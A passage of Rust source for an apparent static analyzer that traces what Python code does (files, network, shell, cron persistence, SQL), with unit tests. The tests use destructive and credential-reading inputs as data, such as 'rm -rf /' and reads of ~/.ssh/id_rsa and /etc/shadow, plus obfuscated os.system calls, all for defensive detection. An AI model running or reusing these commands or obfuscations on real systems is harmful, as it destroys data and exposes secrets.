                        self.send_args(&a, "socket.send");
                    }
                    "fileno" | "detach" => return V::SockFd,
                    "bind" => {
                        let addr = a.arg(0, "address").cloned();
                        self.net_addr(addr.as_ref(), None, "socket.bind");
                    }
                    _ => {}
                }
                if name == "__enter__" {
                    V::Socket
                } else {
                    V::Unknown
                }
            }
            V::Client(via, dflt) => {
                match name {
                    "connect" | "open" => {
                        let host = a.arg(0, "hostname").or_else(|| a.kw("host")).cloned();
                        let port = match a.arg(1, "port") {
                            Some(V::Int(p)) => u16::try_from(*p).ok(),
                            _ => None,
                        };
                        self.net_addr(host.as_ref(), port.or(Some(dflt)), via);
                    }
                    "open_sftp" | "get_transport" | "__enter__" => return V::Client(via, dflt),
                    "put" | "upload" | "upload_file" | "upload_fileobj" => {
                        if let Some(p @ (V::Str(_) | V::Tmpl(_) | V::Path(_))) = a.pos.first() {
                            let f = V::File(Box::new(p.clone()));
                            self.send(std::slice::from_ref(&f), via);
                        }
                        self.send_args(&a, via);
                    }
                    _ => self.send_args(&a, via),
                }
                V::Unknown
            }
            V::Http(via) => {
                match name {
                    "get" | "post" | "put" | "patch" | "delete" | "head" | "options" | "open"
                    | "urlopen" | "ws_connect" | "retrieve" => {
                        let u = a.arg(0, "url").cloned();
                        self.net_url(u.as_ref(), via);
                        self.send_args(&a, via);
                    }
                    "request" | "stream" | "urlopen_method" => {
                        let u = a.arg(1, "url").cloned();
                        self.net_url(u.as_ref(), via);
                        self.send_args(&a, via);
                    }
                    _ => {}
                }
                if name == "__enter__" {
                    V::Http(via)
                } else {
                    V::Unknown
                }
            }
            V::Process(target) => {
                let how = match name {
                    "kill" => Some("SIGKILL".to_string()),
                    "terminate" => Some("SIGTERM".to_string()),
                    "suspend" => Some("SIGSTOP".to_string()),
                    "resume" => Some("SIGCONT".to_string()),
                    "send_signal" => Some(sig_text(a.arg(0, "sig"), "?")),
                    _ => None,
                };
                if let Some(how) = how {
                    self.push(Op::Signal { target, how });
                    return V::None;
                }
                match name {
                    "children" => V::Iter(Box::new(V::Process("?".into()))),
                    "parent" => V::Process("?".into()),
                    _ => V::Unknown,
                }
            }
            V::CronTab => {
                match name {
                    "new" => {
                        let what = match a.arg(0, "command") {
                            Some(V::Str(c)) => format!("cron job: {c}"),
                            _ => "cron job".to_string(),
                        };
                        self.push(Op::Persistence { what });
                    }
                    "write" | "write_to_user" | "remove" | "remove_all" => {
                        self.push(Op::Persistence {
                            what: "crontab".into(),
                        });
                    }
                    _ => {}
                }
                if name == "__enter__" {
                    V::CronTab
                } else {
                    V::Unknown
                }
            }
            V::Child | V::Request(_) | V::Code | V::Endless => V::Unknown,
            _ => self.unknown_method(name, a),
        }
    }

    /// A method of an unknown object: judged by its name and arguments.
    fn unknown_method(&mut self, name: &str, a: Args<'a>) -> V {
        if matches!(
            name,
            "send"
                | "sendall"
                | "sendfile"
                | "sendmail"
                | "send_message"
                | "storbinary"
                | "storlines"
                | "put"
                | "post"
                | "upload"
                | "upload_file"
                | "upload_fileobj"
                | "put_object"
        ) && self.last_host.is_some()
        {
            self.send_args(&a, name);
        }
        match name {
            "execute" | "executemany" | "executescript" | "exec_driver_sql" => {
                let s = a.pos.first().cloned();
                match &s {
                    Some(V::Str(t)) if self.db_api || looks_like_sql(t) => {
                        self.sql(s.as_ref(), None, a.pos.len() > 1);
                    }
                    Some(V::Tmpl(t)) if self.db_api || looks_like_sql(t) => {
                        self.sql(s.as_ref(), None, a.pos.len() > 1);
                    }
                    Some(V::FileText(_)) => self.sql(s.as_ref(), None, false),
                    Some(_) if self.db_api => self.opaque("SQL with computed text"),
                    _ => {}
                }
                return V::Unknown;
            }
            "connect" | "connect_ex" => {
                if let Some(addr @ V::Seq(xs)) = a.pos.first()
                    && xs.len() == 2
                {
                    let addr = addr.clone();
                    self.net_addr(Some(&addr), None, "socket.connect");
                    return V::Unknown;
                }
            }
            "sendto" => {
                if let Some(addr @ V::Seq(xs)) = a.pos.last()
                    && xs.len() == 2
                    && a.pos.len() >= 2
                {
                    let addr = addr.clone();
                    self.net_addr(Some(&addr), None, "socket.sendto");
                    return V::Unknown;
                }
            }
            "get" | "post" | "put" | "patch" | "delete" | "head" | "request" | "urlopen"
            | "open" | "fetch" | "stream" => {
                let url = a
                    .pos
                    .iter()
                    .take(2)
                    .find(|v| is_text(v) && looks_like_url(&tmpl(v)))
                    .cloned();
                if let Some(u) = url {
                    self.net_url(Some(&u), "http");
                    return V::Unknown;
                }
            }
            "to_csv" | "to_json" | "to_parquet" | "to_excel" | "to_feather" | "to_pickle"
            | "to_html" | "savefig" | "save" | "to_file" | "write_html" | "dump_to" => {
                if let Some(p @ (V::Str(_) | V::Tmpl(_) | V::Path(_))) = a.pos.first() {
                    let p = p.clone();
                    self.write(Some(&p));
                }
            }
            "extractall" => {
                let dir = a
                    .arg(0, "path")
                    .cloned()
                    .unwrap_or_else(|| V::Str(".".into()));
                self.write(Some(&dir));
            }
            _ => {}
        }
        self.unknown_call(a);
        V::Unknown
    }

    fn path_method(&mut self, p: V, name: &str, a: &Args<'a>) -> V {
        let me = V::Path(Box::new(p.clone()));
        match name {
            "read_text" | "read_bytes" => {
                self.read(Some(&p));
                V::FileText(Box::new(p))
            }
            "write_text" | "write_bytes" | "touch" | "mkdir" | "symlink_to" | "hardlink_to" => {
                self.write(Some(&p));
                V::None
            }
            "open" => {
                let mode = a.arg(0, "mode").cloned();
                self.open_mode(Some(&p), mode.as_ref(), "r");
                V::File(Box::new(p))
            }
            "unlink" | "rmdir" => {
                self.delete(Some(&p), false);
                V::None
            }
            "rename" | "replace" | "move" => {
                self.delete(Some(&p), name == "move");
                let t = a.arg(0, "target").cloned().unwrap_or(V::Unknown);
                self.write(Some(&t));
                match t {
                    V::Path(_) => t,
                    other => V::Path(Box::new(other)),
                }
            }
            "copy" => {
                self.read(Some(&p));
                let t = a.arg(0, "target").cloned().unwrap_or(V::Unknown);
                self.write(Some(&t));
                V::Unknown
            }
            "chmod" | "lchmod" => {
                let setid = bits(a.arg(0, "mode")) & 0o6000 != 0;
                self.mode(Some(&p), setid);
                V::None
            }
            "iterdir" => {
                self.read(Some(&p));
                let child = join_values(&[p, V::Seg]);
                V::Iter(Box::new(V::Path(Box::new(child))))
            }
            "glob" | "rglob" => {
                let pat = a.arg(0, "pattern").cloned().unwrap_or(V::Unknown);
                let full = if name == "rglob" {
                    join_values(&[p, V::Str("**".into()), pat])
                } else {
                    join_values(&[p, pat])
                };
                match &full {
                    V::Str(s) => {
                        let r = paths::from_text(&self.cwd, &self.expand_tilde(s), true);
                        self.push(Op::FileRead { path: r });
                        let t: String = s
                            .chars()
                            .map(|c| if matches!(c, '*' | '?') { SEG } else { c })
                            .collect();
                        V::Iter(Box::new(V::Path(Box::new(text(t)))))
                    }
                    other => {
                        self.read(Some(other));
                        V::Iter(Box::new(V::Path(Box::new(V::Unknown))))
                    }
                }
            }
            "joinpath" | "__truediv__" => {
                let mut parts = vec![p];
                parts.extend(a.pos.iter().map(|x| match x {
                    V::Path(i) => (**i).clone(),
                    o => o.clone(),
                }));
                V::Path(Box::new(join_values(&parts)))
            }
            "resolve" | "absolute" => match &p {
                V::Str(s) if self.cwd_known || s.starts_with('/') => {
                    V::Path(Box::new(V::Str(paths::resolve(&self.cwd, s))))
                }
                _ => me,
            },
            "expanduser" => match &p {
                V::Str(s) => V::Path(Box::new(V::Str(self.expand_tilde(s).into_owned()))),
                V::Tmpl(t) => V::Path(Box::new(text(self.expand_tilde(t).into_owned()))),
                _ => me,
            },
            "with_name" | "with_suffix" | "with_stem" => {
                let t = tmpl(&p).into_owned();
                let arg = a
                    .pos
                    .first()
                    .map(|x| tmpl(x).into_owned())
                    .unwrap_or_default();
                let dir = dirname(&t);
                let base = basename(&t);
                let new_base = match name {
                    "with_name" => arg,
                    "with_suffix" => format!("{}{arg}", file_stem(base)),
                    _ => {
                        let ext = base.strip_prefix(file_stem(base)).unwrap_or("");
                        format!("{arg}{ext}")
                    }
                };
                V::Path(Box::new(text(join_path(&dir, &new_base))))
            }
            "as_posix" | "__str__" | "__fspath__" => p,
            "exists" | "is_file" | "is_dir" | "stat" | "lstat" | "is_symlink" | "samefile" => {
                V::Unknown
            }
            _ => V::Unknown,
        }
    }

    fn str_method(&mut self, recv: &V, name: &str, a: &Args<'a>) -> V {
        let t = tmpl(recv);
        let exact = matches!(recv, V::Str(_));
        match name {
            "join" => match a.pos.first() {
                Some(x) if content(x).is_some() => content(x).cloned().unwrap_or(V::Unknown),
                Some(V::Seq(items)) => {
                    let mut out = String::new();
                    for (i, it) in items.iter().enumerate() {
                        if i > 0 {
                            out.push_str(&t);
                        }
                        match it {
                            V::Alt(_) => out.push(HOLE),
                            other => out.push_str(&tmpl(other)),
                        }
                        if out.len() > MAX_TEXT {
                            return V::Unknown;
                        }
                    }
                    text(out)
                }
                Some(V::Str(s)) if t.is_empty() => V::Str(s.clone()),
                Some(V::Str(s)) => {
                    let parts: Vec<String> = s.chars().map(|c| c.to_string()).collect();
                    text(parts.join(&t))
                }
                _ => V::Unknown,
            },
            "format" => {
                if let Some(c) = a
                    .pos
                    .iter()
                    .chain(a.kw.iter().map(|(_, v)| v))
                    .find_map(content)
                {
                    return c.clone();
                }
                brace_format(&t, &a.pos, &a.kw)
            }
            "replace" => match (a.pos.first(), a.pos.get(1)) {
                (Some(V::Str(x)), Some(y @ (V::Str(_) | V::Tmpl(_)))) if !x.is_empty() => {
                    let out = t.replace(x.as_str(), &tmpl(y));
                    text(out)
                }
                _ => V::Unknown,
            },
            "strip" | "lstrip" | "rstrip" => {
                let chars: Option<Vec<char>> = match a.pos.first() {
                    None | Some(V::None) => None,
                    Some(V::Str(c)) => Some(c.chars().collect()),
                    _ => return V::Unknown,
                };
                let f = |c: char| match &chars {
                    None => c.is_whitespace(),
                    Some(cs) => cs.contains(&c),
                };
                let out = match name {
                    "strip" => t.trim_matches(f),
                    "lstrip" => t.trim_start_matches(f),
                    _ => t.trim_end_matches(f),
                };
                text(out.to_string())
            }
            "lower" | "casefold" => text(t.to_lowercase()),
            "upper" => text(t.to_uppercase()),
            "encode" => recv.clone(),
            "decode" => match a.arg(0, "encoding") {
                Some(V::Str(e)) if exact => {
                    let e = e.to_ascii_lowercase();
                    match e.as_str() {
                        "base64" => decode_b64(&t).map_or(V::Unknown, |b| bytes_text(&b)),
                        "hex" => decode_hex(&t).map_or(V::Unknown, |b| bytes_text(&b)),
                        "rot13" | "rot_13" => V::Str(rot13(&t)),
                        _ => recv.clone(),
                    }
                }
                _ => recv.clone(),
            },
            "split" | "rsplit" if exact => {
                let parts: Vec<V> = match a.arg(0, "sep") {
                    None | Some(V::None) => t
                        .split_whitespace()
                        .map(|s| V::Str(s.to_string()))
                        .collect(),
                    Some(V::Str(sep)) if !sep.is_empty() => t
                        .split(sep.as_str())
                        .map(|s| V::Str(s.to_string()))
                        .collect(),
                    _ => return V::Unknown,
                };
                if parts.len() > MAX_SEQ || a.arg(1, "maxsplit").is_some() {
                    V::Unknown
                } else {
                    V::Seq(parts)
                }
            }
            "splitlines" if exact => {
                let parts: Vec<V> = t.lines().map(|s| V::Str(s.to_string())).collect();
                if parts.len() > MAX_SEQ {
                    V::Unknown
                } else {
                    V::Seq(parts)
                }
            }
            "removeprefix" => match a.pos.first() {
                Some(V::Str(x)) => text(t.strip_prefix(x.as_str()).unwrap_or(&t).to_string()),
                _ => V::Unknown,
            },
            "removesuffix" => match a.pos.first() {
                Some(V::Str(x)) => text(t.strip_suffix(x.as_str()).unwrap_or(&t).to_string()),
                _ => V::Unknown,
            },
            "__add__" => match a.pos.first() {
                Some(x) => concat(recv, x),
                None => V::Unknown,
            },
            _ => V::Unknown,
        }
    }
}

fn sym_attr(q: &str, name: &str) -> V {
    match (q, name) {
        ("sys", "executable") | ("sys", "_base_executable") => V::Str("python3".into()),
        ("sys", "platform") => V::Str("linux".into()),
        ("sys", "argv") | ("sys", "stdin") | ("sys", "path") => V::Unknown,
        ("os", "name") => V::Str("posix".into()),
        ("os", "sep") | ("os.path", "sep") => V::Str("/".into()),
        ("os", "curdir") | ("os.path", "curdir") => V::Str(".".into()),
        ("os", "pardir") | ("os.path", "pardir") => V::Str("..".into()),
        ("os", "devnull") | ("os.path", "devnull") => V::Str("/dev/null".into()),
        ("os", "linesep") => V::Str("\n".into()),
        ("stat", n) if stat_const(n).is_some() => V::Int(stat_const(n).unwrap_or(0)),
        ("os", n) if os_flag(n).is_some() => V::Int(os_flag(n).unwrap_or(0)),
        (_, "__dict__" | "__call__") => V::Sym(q.to_string()),
        (_, "__builtins__") => V::Sym("builtins".into()),
        ("builtins", n) => V::Sym(n.to_string()),
        _ => V::Sym(norm_qual(&format!("{q}.{name}"))),
    }
}

fn callable(v: &V) -> bool {
    match v {
        V::Sym(q) => kind(q).is_some(),
        V::Func(_) | V::Class(_) => true,
        V::Alt(vs) => vs.iter().any(callable),
        _ => false,
    }
}

fn is_interpreter(prog: &str) -> bool {
    let p = prog.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    matches!(
        p,
        "sh" | "bash"
            | "dash"
            | "zsh"
            | "ksh"
            | "fish"
            | "python"
            | "perl"
            | "ruby"
            | "node"
            | "php"
            | "lua"
            | "osascript"
            | "pwsh"
    )
}

/// `%s` / `%(name)s` DB-API placeholders as `?`.
fn sql_params(s: &str) -> Cow<'_, str> {
    if !s.contains('%') {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '%' {
            out.push(c);
            continue;
        }
        match chars.peek() {
            Some('s') => {
                chars.next();
                out.push('?');
            }
            Some('%') => {
                chars.next();
                out.push('%');
            }
            Some('(') => {
                for d in chars.by_ref() {
                    if d == ')' {
                        break;
                    }
                }
                chars.next();
                out.push('?');
            }
            _ => out.push('%'),
        }
    }
    Cow::Owned(out)
}

/// Database name, host and port of a database URL.
fn parse_db_url(u: &str) -> (Option<String>, Option<String>, Option<u16>) {
    let (host, port) = url_target(u);
    let rest = u.split_once("://").map_or(u, |(_, r)| r);
    let name = rest
        .split_once('/')
        .map(|(_, p)| p.split(['?', '#']).next().unwrap_or(p).to_string())
        .filter(|n| !n.is_empty());
    let host = if host == "?" && !rest.contains(HOLES) {
        None
    } else {
        Some(host)
    };
    (name, host, port)
}

/// The file content (or open file) a value carries, if any.
fn content(v: &V) -> Option<&V> {
    match v {
        V::FileText(_) => Some(v),
        V::Seq(xs) | V::Alt(xs) | V::Dict(xs) => xs.iter().find_map(content),
        V::Request(r) => content(&r.1),
        _ => None,
    }
}

/// Paths of the files whose content (or open file) a value carries.
fn carried_files(v: &V, out: &mut Vec<V>) {
    match v {
        V::FileText(p) | V::File(p) if !out.contains(p) => out.push((**p).clone()),
        V::Seq(xs) | V::Alt(xs) | V::Dict(xs) => {
            for x in xs {
                carried_files(x, out);
            }
        }
        V::Request(r) => carried_files(&r.1, out),
        _ => {}
    }
}

fn merge_opt(a: Option<V>, b: Option<V>) -> Option<V> {
    match (a, b) {
        (Some(a), Some(b)) => Some(merge(a, b)),
        (a, None) => a,
        (None, b) => b,
    }
}

/// What iterating a value yields.
fn iter_elem(v: &V) -> V {
    match v {
        V::Seq(xs) => alt(xs.clone()),
        V::Iter(e) => (**e).clone(),
        V::File(p) | V::FileText(p) => V::FileText(p.clone()),
        V::Alt(vs) => alt(vs.iter().map(iter_elem).collect()),
        _ => V::Unknown,
    }
}

fn target_names<'b>(e: &'b Expr, out: &mut Vec<&'b str>) {
    match e {
        Expr::Name(n) => out.push(n.id.as_str()),
        Expr::Tuple(ast::ExprTuple { elts, .. }) | Expr::List(ast::ExprList { elts, .. }) => {
            for x in elts {
                target_names(x, out);
            }
        }
        Expr::Starred(s) => target_names(&s.value, out),
        _ => {}
    }
}

fn pattern_names<'b>(p: &'b Pattern, out: &mut Vec<&'b str>) {
    match p {
        Pattern::MatchAs(a) => {
            if let Some(n) = &a.name {
                out.push(n.as_str());
            }
            if let Some(p) = &a.pattern {
                pattern_names(p, out);
            }
        }
        Pattern::MatchStar(s) => {
            if let Some(n) = &s.name {
                out.push(n.as_str());
            }
        }
        Pattern::MatchSequence(s) => {
            for p in &s.patterns {
                pattern_names(p, out);
            }
        }
        Pattern::MatchMapping(m) => {
            for p in &m.patterns {
                pattern_names(p, out);
            }
            if let Some(r) = &m.rest {
                out.push(r.as_str());
            }
        }
        Pattern::MatchClass(c) => {
            for p in &c.arguments.patterns {
                pattern_names(p, out);
            }
            for k in &c.arguments.keywords {
                pattern_names(&k.pattern, out);
            }
        }
        Pattern::MatchOr(o) => {
            for p in &o.patterns {
                pattern_names(p, out);
            }
        }
        Pattern::MatchValue(_) | Pattern::MatchSingleton(_) => {}
    }
}

/// Names a block binds (not looking into nested functions or classes).
fn assigned<'b>(body: &'b [Stmt], out: &mut Vec<&'b str>) {
    for s in body {
        match s {
            Stmt::Assign(a) => {
                for t in &a.targets {
                    target_names(t, out);
                }
            }
            Stmt::AugAssign(a) => target_names(&a.target, out),
            Stmt::AnnAssign(a) => target_names(&a.target, out),
            Stmt::For(f) => {
                target_names(&f.target, out);
                assigned(&f.body, out);
                assigned(&f.orelse, out);
            }
            Stmt::While(w) => {
                assigned(&w.body, out);
                assigned(&w.orelse, out);
            }
            Stmt::If(i) => {
                assigned(&i.body, out);
                for c in &i.elif_else_clauses {
                    assigned(&c.body, out);
                }
            }
            Stmt::With(w) => {
                for it in &w.items {
                    if let Some(t) = &it.optional_vars {
                        target_names(t, out);
                    }
                }
                assigned(&w.body, out);
            }
            Stmt::Try(t) => {
                assigned(&t.body, out);
                for h in &t.handlers {
                    let ExceptHandler::ExceptHandler(h) = h;
                    if let Some(n) = &h.name {
                        out.push(n.as_str());
                    }
                    assigned(&h.body, out);
                }
                assigned(&t.orelse, out);
                assigned(&t.finalbody, out);
            }
            Stmt::Match(m) => {
                for c in &m.cases {
                    pattern_names(&c.pattern, out);
                    assigned(&c.body, out);
                }
            }
            Stmt::FunctionDef(f) => out.push(f.name.as_str()),
            Stmt::ClassDef(c) => out.push(c.name.as_str()),
            Stmt::Import(i) => {
                for a in &i.names {
                    match &a.asname {
                        Some(n) => out.push(n.as_str()),
                        None => out.push(a.name.as_str().split('.').next().unwrap_or("")),
                    }
                }
            }
            Stmt::ImportFrom(i) => {
                for a in &i.names {
                    out.push(a.asname.as_ref().map_or(a.name.as_str(), |n| n.as_str()));
                }
            }
            _ => {}
        }
    }
}

/// Does a loop body leave the loop: `break` (of this loop), `return`,
/// `raise`, or `sys.exit()`-like calls?
fn exits(body: &[Stmt], nested_loop: bool) -> bool {
    body.iter().any(|s| match s {
        Stmt::Break(_) => !nested_loop,
        Stmt::Return(_) | Stmt::Raise(_) => true,
        Stmt::Expr(e) => is_exit_call(&e.value),
        Stmt::For(f) => exits(&f.body, true) || exits(&f.orelse, nested_loop),
        Stmt::While(w) => exits(&w.body, true) || exits(&w.orelse, nested_loop),
        Stmt::If(i) => {
            exits(&i.body, nested_loop)
                || i.elif_else_clauses
                    .iter()
                    .any(|c| exits(&c.body, nested_loop))
        }
        Stmt::With(w) => exits(&w.body, nested_loop),
        Stmt::Try(t) => {
            exits(&t.body, nested_loop)
                || t.handlers.iter().any(|h| {
                    let ExceptHandler::ExceptHandler(h) = h;
                    exits(&h.body, nested_loop)
                })
                || exits(&t.orelse, nested_loop)
                || exits(&t.finalbody, nested_loop)
        }
        Stmt::Match(m) => m.cases.iter().any(|c| exits(&c.body, nested_loop)),
        _ => false,
    })
}

/// A loop condition that is literally true: `True`, `1`, `'x'`.
fn always_true(e: &Expr) -> bool {
    match e {
        Expr::BooleanLiteral(b) => b.value,
        Expr::NumberLiteral(n) => match &n.value {
            Number::Int(i) => i.as_i64() != Some(0),
            Number::Float(f) => *f != 0.0,
            Number::Complex { .. } => true,
        },
        Expr::StringLiteral(s) => !s.value.is_empty(),
        Expr::UnaryOp(u) if u.op == UnaryOp::Not => {
            matches!(&*u.operand, Expr::BooleanLiteral(b) if !b.value)
                || matches!(&*u.operand, Expr::NumberLiteral(n) if matches!(&n.value, Number::Int(i) if i.as_i64() == Some(0)))
        }
        _ => false,
    }
}

fn is_exit_call(e: &Expr) -> bool {
    let Expr::Call(c) = e else { return false };
    match &*c.func {
        Expr::Name(n) => matches!(n.id.as_str(), "exit" | "quit"),
        Expr::Attribute(a) => matches!(a.attr.as_str(), "exit" | "_exit" | "abort"),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ops::Exactness;
    use std::cell::RefCell;

    type Nested = Vec<(Lang, String, String, Option<String>)>;

    thread_local! {
        /// Nested analyses requested by the analyzer, for the tests.
        pub(super) static NESTED: RefCell<Nested> = const { RefCell::new(Vec::new()) };
    }

    fn ctx() -> Context {
        Context::new("/w/proj", "/w/proj", "/home/u")
    }

    fn run(code: &str) -> Vec<Op> {
        NESTED.with(|n| n.borrow_mut().clear());
        crate::analyze(Lang::Python, code, &ctx()).ops
    }

    /// Ops plus the code handed to nested analyzers.
    fn run_nested(code: &str) -> (Vec<Op>, Nested) {
        let ops = run(code);
        (ops, NESTED.with(|n| n.borrow().clone()))
    }

    fn shell_of(code: &str) -> Vec<String> {
        run_nested(code)
            .1
            .into_iter()
            .filter(|(l, ..)| *l == Lang::Bash)
            .map(|(_, c, ..)| c)
            .collect()
    }

    fn lit(p: &str) -> PathRef {
        PathRef {
            path: p.to_string(),
            exact: Exactness::Literal,
        }
    }

    fn has_opaque(ops: &[Op], needle: &str) -> bool {
        ops.iter()
            .any(|o| matches!(o, Op::Opaque { reason } if reason.contains(needle)))
    }

    fn net(host: &str, port: Option<u16>) -> impl Fn(&Op) -> bool + '_ {
        move |o| matches!(o, Op::Network { host: h, port: p, .. } if h == host && *p == port)
    }

    #[test]
    fn pure_programs_have_no_ops() {
        let code = r#"
from typing import List

def has_close_elements(numbers: List[float], threshold: float) -> bool:
    for idx, elem in enumerate(numbers):
        for idx2, elem2 in enumerate(numbers):
            if idx != idx2:
                distance = abs(elem - elem2)
                if distance < threshold:
                    return True
    return False

def gcd(a, b):
    while b:
        a, b = b, a % b
    return a

class Point:
    def __init__(self, x, y):
        self.x, self.y = x, y
    def norm(self):
        return (self.x ** 2 + self.y ** 2) ** 0.5

def check(candidate):
    assert candidate([1.0, 2.0, 3.9], 0.3) == False
    assert gcd(10, 15) == 5

check(has_close_elements)
print(Point(3, 4).norm(), eval('2 + 3 * 4'), sorted({'b': 1}.items()))
exec('total = sum(range(10))', {})
import json, math, re, collections, ast
print(json.dumps({'a': [1, 2]}), math.sqrt(2), re.findall(r'\d', 'a1'), ast.literal_eval('[1]'))
"#;
        assert_eq!(run(code), vec![]);
    }

    #[test]
    fn parse_errors_are_opaque() {
        let ops = run("def f(:\n  pass");
        assert!(has_opaque(&ops, "python does not parse"), "{ops:?}");
        // The recovered tree is still walked.
        let ops = run("import os\nos.remove('/etc/hosts')\nx = (");
        assert!(has_opaque(&ops, "python does not parse"));
        assert!(ops.contains(&Op::FileDelete {
            path: lit("/etc/hosts"),
            recursive: false
        }));
    }

    #[test]
    fn shell_calls_recurse_into_bash() {
        assert_eq!(
            shell_of("import os\nos.system('rm -rf /tmp/x')"),
            ["rm -rf /tmp/x"]
        );
        assert_eq!(
            shell_of("import os\ncmd = 'ls -la'\nos.system(cmd)"),
            ["ls -la"]
        );
        assert_eq!(shell_of("import os as o\no.popen('id').read()"), ["id"]);
        assert_eq!(
            shell_of("from os import system as s\ns('whoami')"),
            ["whoami"]
        );
        assert_eq!(
            shell_of("from subprocess import *\ncall('uname', shell=True)"),
            ["uname"]
        );
        assert_eq!(
            shell_of("import subprocess\nsubprocess.run(['git', 'status'])"),
            ["git status"]
        );
        assert_eq!(
            shell_of("import subprocess\nsubprocess.check_output(['sh', '-c', \"echo 'hi'\"])"),
            ["sh -c 'echo '\\''hi'\\'''"]
        );
        assert_eq!(
            shell_of(
                "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'print(1 + 1)'])"
            ),
            ["python3 -c 'print(1 + 1)'"]
        );
        let (ops, nested) =
            run_nested("import subprocess\nsubprocess.run('make', cwd='sub', shell=True)");
        assert!(!ops.is_empty(), "the nested analysis produced something");
        assert_eq!(nested[0].2, "/w/proj/sub");
        assert_eq!(
            shell_of("import os\nos.execvp('rm', ['rm', '-rf', 'build'])"),
            ["rm -rf build"]
        );
        assert_eq!(
            shell_of("import subprocess\nsubprocess.run(['bash'], input='rm -rf ~')"),
            ["bash <<'PYEOF'\nrm -rf ~\nPYEOF"]
        );
    }

    #[test]
    fn computed_commands_are_opaque_or_partial() {
        let ops = run("import subprocess\nsubprocess.run(input(), shell=True)");
        assert!(has_opaque(&ops, "subprocess with computed command"));
        let ops = run("import os\ndef f(c):\n    os.system(c)\n");
        assert!(has_opaque(&ops, "subprocess with computed command"));
        assert_eq!(
            shell_of("import subprocess\nsubprocess.run(['git', 'checkout', branch])"),
            ["git checkout \"$PY_VALUE\""]
        );
        assert_eq!(
            shell_of("import os\nos.system(f'tar czf {name}.tgz src')"),
            ["tar czf $PY_VALUE.tgz src"]
        );
        let ops = run("import os\nos.system(f'{tool} --version')");
        assert!(has_opaque(&ops, "computed program"));
    }

    #[test]
    fn obfuscation_is_folded() {
        let cases = [
            "import os\ngetattr(os, 'sys' + 'tem')('id')",
            "import os as o\nf = getattr(o, ''.join(['sy', 'st', 'em']))\nf('id')",
            "getattr(__import__('os'), 'system')('id')",
            "__import__('subprocess').getoutput('id')",
            "import importlib\nimportlib.import_module('os').system('id')",
            "import sys, os\nsys.modules['os'].system('id')",
            "import os\nos.system('di'[::-1])",
            "import os\nos.system(''.join(chr(c) for c in [105, 100]))",
            "import os\nos.system('{}'.format('id'))",
            "import os\nos.system('%s' % 'id')",
            "import os\nos.system(f\"{'i'}d\")",
            "import base64, os\nos.system(base64.b64decode('aWQ=').decode())",
            "import os\nos.system(bytes.fromhex('6964').decode())",
            "import os, codecs\nos.system(codecs.decode('vq', 'rot13'))",
            "import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()",
            "import os\nfrom concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().submit(os.system, 'id')",
            "import os\nrun = lambda c: os.system(c)\nrun('id')",
            "import os\ndef go(c):\n    os.system(c)\ngo('id')",
            "import os\nclass R:\n    def __init__(self, c):\n        self.c = c\n    def go(self):\n        os.system(self.c)\nR('id').go()",
            "import os\nfor c in ['id']:\n    os.system(c)",
            "__builtins__.__dict__['exec'](\"__import__('os').system('id')\")",
        ];
        for code in cases {
            assert_eq!(shell_of(code), ["id"], "{code}");
        }
        let ops = run("import os\ngetattr(os, input())('id')");
        assert!(has_opaque(&ops, "getattr of os with a computed name"));
        let ops = run("__import__(name)");
        assert!(has_opaque(&ops, "import of a computed module name"));
    }

    #[test]
    fn branches_and_loops_keep_every_value() {
        let code = "import os\ncmd = 'ls'\nif x:\n    cmd = 'rm -rf /'\nos.system(cmd)";
        let mut got = shell_of(code);
        got.sort();
        assert_eq!(got, ["ls", "rm -rf /"]);
        let ops =
            run("import os\nc = 'ls'\nfor i in range(3):\n    os.system(c)\n    c = input()\n");
        assert!(has_opaque(&ops, "computed command"));
    }

    #[test]
    fn files() {
        let ops = run(concat!(
            "import os, shutil\n",
            "open('out/r.json', 'w')\n",
            "open('data.csv')\n",
            "open('log.txt', mode='a')\n",
            "open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
            "open(os.path.join(os.environ['HOME'], '.netrc'))\n",
            "os.remove('/etc/hosts')\n",
            "shutil.rmtree('build')\n",
            "shutil.copy('/etc/shadow', 'x')\n",
            "os.makedirs('a/b')\n",
            "os.listdir('/root')\n",
        ));
        let want = [
            Op::FileWrite {
                path: lit("/w/proj/out/r.json"),
            },
            Op::FileRead {
                path: lit("/w/proj/data.csv"),
            },
            Op::FileWrite {
                path: lit("/w/proj/log.txt"),
            },
            Op::FileRead {
                path: lit("/home/u/.ssh/id_rsa"),
            },
            Op::FileRead {
                path: lit("/home/u/.netrc"),
            },
            Op::FileDelete {
                path: lit("/etc/hosts"),
                recursive: false,
            },
            Op::FileDelete {
                path: lit("/w/proj/build"),
                recursive: true,
            },
            Op::FileRead {
                path: lit("/etc/shadow"),
            },
            Op::FileWrite {
                path: lit("/w/proj/x"),
            },
            Op::FileWrite {
                path: lit("/w/proj/a/b"),
            },
            Op::FileRead { path: lit("/root") },
        ];
        assert_eq!(ops, want);
    }

    #[test]
    fn pathlib_and_cwd() {
        let ops = run(concat!(
            "from pathlib import Path\n",
            "(Path.home() / '.ssh' / ('id_' + 'rsa')).read_text()\n",
            "Path('notes.txt').write_text('x')\n",
            "Path('~/.bashrc').expanduser().open('a')\n",
            "import os\n",
            "os.chdir('/etc')\n",
            "open('passwd').read()\n",
        ));
        assert_eq!(
            ops,
            [
                Op::FileRead {
                    path: lit("/home/u/.ssh/id_rsa")
                },
                Op::FileWrite {
                    path: lit("/w/proj/notes.txt")
                },
                Op::FileWrite {
                    path: lit("/home/u/.bashrc")
                },
                Op::FileRead {
                    path: lit("/etc/passwd")
                },
            ]
        );
    }

    #[test]
    fn computed_paths_are_unknown_or_glob() {
        let ops = run("def save(p):\n    open(p, 'w')\n");
        assert_eq!(
            ops,
            [Op::FileWrite {
                path: paths::unknown("/w/proj", "")
            }]
        );
        let ops = run("open('out/' + name, 'w')");
        let out = PathRef {
            path: "/w/proj/out".into(),
            exact: Exactness::Unknown,
        };
        assert_eq!(ops, [Op::FileWrite { path: out }]);
        let ops = run(
            "import os\nfor pid in os.listdir('/proc'):\n    open(f'/proc/{pid}/environ').read()",
        );
        let environ = PathRef {
            path: "/proc/*/environ".into(),
            exact: Exactness::Glob,
        };
